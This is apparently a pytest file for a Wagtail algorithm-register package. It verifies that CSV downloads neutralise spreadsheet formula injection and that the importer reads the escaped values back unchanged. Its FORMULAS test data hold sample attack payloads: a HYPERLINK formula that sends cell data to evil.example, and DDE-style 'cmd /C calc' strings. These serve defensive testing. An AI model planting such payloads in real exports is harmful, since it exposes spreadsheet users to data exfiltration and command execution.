"""CSV downloads are spreadsheet-safe, and the importer reads them back losslessly."""

import csv
import io
import json
from io import StringIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import call_command_in_english, make_entry
from wagtail_algoregister.formats import downloads as exports
from wagtail_algoregister.formats.csv_safety import FORMULA_PREFIXES, escape_cell, unescape_cell
from wagtail_algoregister.importing.readers import read_bytes
from wagtail_algoregister.models import AlgorithmPage, AlgorithmRegisterPage


pytestmark = pytest.mark.usefixtures("english")

# One value per prefix OWASP names, as an attacker would write them.
FORMULAS = {
    "=": '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_every_prefix_is_neutralised_and_restored():
    assert set(FORMULAS) == set(FORMULA_PREFIXES)
    for prefix, value in FORMULAS.items():
        escaped = escape_cell(value)
        assert escaped == "'" + value, prefix
        assert unescape_cell(escaped) == value, prefix
    for harmless in ("", "gewoon", "'citaat'", "a=b", " =1", "€ 3"):
        assert escape_cell(harmless) == harmless
        assert unescape_cell(harmless) == harmless
    # A value that already begins with a quote before a prefix keeps its quote.
    assert escape_cell("'=al tekst") == "''=al tekst"
    assert unescape_cell("''=al tekst") == "'=al tekst"


@settings(max_examples=500, derandomize=True)
@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " "])))
def test_escaping_is_reversible_and_never_leaves_a_formula(text):
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not escaped.startswith(FORMULA_PREFIXES)


def csv_download(register, tmp_path):
    path = tmp_path / "export.csv"
    call_command_in_english(
        "algoregister_export",
        "--register",
        str(register.pk),
        "--format",
        "csv",
        "--output",
        str(path),
        stderr=StringIO(),
    )
    return path


def raw_rows(data: bytes):
    reader = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return list(reader)


VALUES = {
    "name": FORMULAS["="][:100],
    "provider": FORMULAS["+"],
    "tags": FORMULAS["-"],
    "description_short": FORMULAS["@"],
    "source_id": "'=al tekst",
}


def test_csv_downloads_are_safe_and_import_again_unchanged(client, register, home, tmp_path):
    make_entry(register, slug="formules", **VALUES)
    # The view's download and the command's file are the same, and safe.
    response = client.get(f"{register.url}export.csv")
    body = b"".join(response.streaming_content)
    path = csv_download(register, tmp_path)
    assert path.read_bytes() == body
    (row,) = raw_rows(body)
    for key, value in VALUES.items():
        assert row[key] == "'" + value, key
    for cell in row.values():
        assert not cell.startswith(FORMULA_PREFIXES), cell
    # The importer reads the values as they were.
    (record,) = read_bytes(body, name="export.csv")
    for key, value in VALUES.items():
        assert record.data[key] == value, key
    assert exports.read_csv(body)[0]["provider"] == VALUES["provider"]
    # Imported into another register: the same values.
    other = AlgorithmRegisterPage(title="Ander", slug="ander", organisation_name="Gemeente X")
    home.add_child(instance=other)
    other.save_revision().publish()
    out = StringIO()
    call_command_in_english(
        "algoregister_import", str(path), "--register", str(other.pk), stdout=out
    )
    assert "created: 1" in out.getvalue()
    page = AlgorithmPage.objects.child_of(other).get()
    for key, value in VALUES.items():
        assert page.standard_value(key) == value, key
    # And into the same register: matched, unchanged.
    out = StringIO()
    call_command_in_english(
        "algoregister_import", str(path), "--register", str(register.pk), "--update", stdout=out
    )
    assert "updated: 0, unchanged: 1" in out.getvalue(), out.getvalue()


def test_json_and_xlsx_are_not_escaped(client, register):
    make_entry(register, slug="formules", **VALUES)
    record = json.loads(b"".join(client.get(f"{register.url}export.json").streaming_content))[0]
    for key, value in VALUES.items():
        assert record[key] == value
